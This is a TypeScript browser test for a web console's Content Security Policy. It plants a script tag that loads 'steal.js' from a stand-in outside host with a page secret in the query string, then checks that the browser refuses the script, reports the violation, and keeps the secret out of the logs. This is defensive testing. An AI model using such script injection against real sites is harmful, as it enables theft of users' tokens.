import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { eventually } from '../stack/eventually.ts';
import { newOrganisation } from '../stack/new-organisation.ts';
import { runningStack } from '../stack/running-stack.ts';
import { startBrowser } from './browser.ts';
import { signedIn } from './signed-in.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(async () => await browser?.close());

const logged = (text: string): readonly string[] =>
  readdirSync(runningStack().logFolder).flatMap((file) =>
    readFileSync(join(runningStack().logFolder, file), 'utf8')
      .split('\n')
      .filter((line) => line.includes(text)),
  );

test('A script that somebody plants in a page of the console is refused, and the browser reports it to us', async () => {
  const origin = `https://planted-${Date.now()}.example`;
  const opened = await (await signedIn(browser, await newOrganisation())).open('/applications');
  await opened.page.evaluate(`(() => {
    const script = document.createElement('script');
    script.src = '${origin}/steal.js?token=secret-of-the-page';
    document.head.append(script);
  })()`);
  const lines = await eventually(async () => {
    const found = logged(origin);
    return found.length > 0 ? found : null;
  }, 'the report of the refused script');
  expect(lines.join('\n')).toContain('page_load_refused');
  expect(lines.join('\n')).toContain('script-src');
  expect(lines.join('\n')).not.toContain('secret-of-the-page');
  await opened.page.close();
});
